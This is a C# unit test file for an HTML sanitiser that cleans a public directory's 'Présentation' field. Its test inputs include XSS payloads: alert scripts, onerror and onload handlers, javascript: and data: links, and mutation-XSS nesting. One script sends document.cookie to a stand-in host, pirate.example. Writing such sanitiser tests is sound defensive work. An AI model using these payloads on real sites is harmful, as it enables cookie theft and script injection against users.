using Nege.Membership.Applications;
using Nege.ServiceDefaults.Http;

namespace Membership.Tests;

/// <summary>
/// « Présentation » is HTML shown in the public directory: formatting survives, anything that could run
/// (scripts, event handlers, javascript: links, frames) or restyle the page does not.
/// </summary>
public sealed class PresentationSanitisingTests
{
    [Theory]
    [InlineData("<p>Rejoignez le groupe <strong>Divalto</strong></p>")]
    [InlineData("<p>1<sup>er</sup> éditeur français d'ERP</p>")]
    [InlineData("<ul><li>ERP</li><li>CRM mobile</li></ul>")]
    [InlineData("<p><a href=\"https://www.divalto.com/carrieres\">Nos offres</a></p>")]
    [InlineData("<h2>Nos métiers</h2><p><em>Développeurs</em>, <b>consultants</b><br>et commerciaux</p>")]
    public void Formatting_and_https_links_survive_as_written(string html) =>
        Assert.Equal(html, Clean(html));

    [Theory]
    [InlineData("<p>Bonjour</p><script>alert('xss')</script>", "<p>Bonjour</p>")]
    [InlineData("<p>Bonjour<script>document.location='https://pirate.example/?c='+document.cookie</script></p>", "<p>Bonjour</p>")]
    [InlineData("<style>body { display: none }</style><p>Bonjour</p>", "<p>Bonjour</p>")]
    [InlineData("<p>Bonjour</p><iframe src=\"https://pirate.example\">Votre navigateur ne gère pas les cadres</iframe>", "<p>Bonjour</p>")]
    [InlineData("<p>Bonjour</p><noscript><p>Activez JavaScript</p></noscript>", "<p>Bonjour</p>")]
    [InlineData("<p>Bonjour</p><object data=\"x.swf\"><p>Pas de <strong>Flash</strong></p><embed src=\"x\"><script>x()</script></object>", "<p>Bonjour</p>")]
    [InlineData("<p>Bonjour</p><template><p>Modèle</p></template>", "<p>Bonjour</p>")]
    [InlineData("<p>Bonjour</p><textarea><p>Saisie</p></textarea>", "<p>Bonjour</p>")]
    [InlineData("<svg><style>circle{fill:red}</style><text>Texte SVG</text></svg><p>Bonjour</p>", "Texte SVG<p>Bonjour</p>")]
    [InlineData("<div><style>p{}</style><p>Bonjour</p><script>a()</script></div>", "<p>Bonjour</p>")]
    public void Scripts_styles_and_frames_are_removed_with_their_content(string html, string expected) =>
        Assert.Equal(expected, Clean(html));

    [Fact]
    public void A_script_alone_leaves_no_presentation_at_all() =>
        Assert.Null(Clean("<script>alert(1)</script>"));

    [Fact]
    public void The_text_of_a_script_does_not_survive_as_visible_text()
    {
        var clean = Clean("<p>Texte</p><script>var secret = 'ne pas afficher';</script><style>.x{color:red}</style>") ?? "";

        Assert.DoesNotContain("ne pas afficher", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("color", clean, StringComparison.Ordinal);
        Assert.Equal("<p>Texte</p>", clean);
    }

    [Theory]
    [InlineData("<img src=x onerror=\"alert(1)\">", "")]
    [InlineData("<p onclick=\"alert(1)\" onmouseover=\"alert(2)\">Bonjour</p>", "<p>Bonjour</p>")]
    [InlineData("<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Bonjour</p>", "<p>Bonjour</p>")]
    [InlineData("<a href=\"javascript:alert(1)\">Cliquez</a>", "<a>Cliquez</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">Cliquez</a>", "<a>Cliquez</a>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Cliquez</a>", "<a>Cliquez</a>")]
    [InlineData("<a href=\"https://exemple.fr\" onclick=\"alert(1)\" style=\"color:red\">Site</a>", "<a href=\"https://exemple.fr\">Site</a>")]
    [InlineData("<div class=\"x\" id=\"y\"><p>Bonjour</p></div>", "<p>Bonjour</p>")]
    [InlineData("<svg onload=\"alert(1)\"><circle r=\"1\"></circle></svg><p>Bonjour</p>", "<p>Bonjour</p>")]
    [InlineData("<form action=\"https://pirate.example\"><input name=\"password\"></form><p>Bonjour</p>", "<p>Bonjour</p>")]
    public void Event_handlers_styles_unsafe_links_and_unknown_elements_are_removed(string html, string expected) =>
        Assert.Equal(expected, Clean(html) ?? "");

    [Theory]
    [InlineData("<p>Bonjour</p><script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<iframe src=\"javascript:alert(1)\"></iframe>")]
    [InlineData("<p onmouseover=alert(1)>x</p>")]
    [InlineData("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>")]
    public void Nothing_that_runs_survives(string html)
    {
        var clean = Clean(html) ?? "";

        Assert.DoesNotContain("<script", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onerror", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onmouseover", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", clean, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void A_presentation_over_20000_characters_is_refused()
    {
        var errors = new ValidationErrors();

        Assert.Null(FormRules.Presentation(errors, "presentation", "<p>" + new string('a', 20_000) + "</p>"));
        Assert.Equal(["La présentation ne doit pas dépasser 20000 caractères."], errors.ToDictionary()["presentation"]);
    }

    [Fact]
    public void Plain_text_for_e_mails_keeps_the_words_a_line_a_paragraph_and_decodes_entities()
    {
        var text = FormRules.PlainText("<p>Fort de ses <strong>200</strong> collaborateurs &amp; partenaires</p><p>Rejoignez-nous</p>");

        Assert.Equal(
            ["Fort de ses 200 collaborateurs & partenaires", "Rejoignez-nous"],
            text.Split('\n').Select(line => string.Join(' ', line.Split(' ', StringSplitOptions.RemoveEmptyEntries))));
    }

    private static string? Clean(string html)
    {
        var errors = new ValidationErrors();
        var clean = FormRules.Presentation(errors, "presentation", html);
        Assert.True(errors.IsEmpty);
        return clean;
    }
}
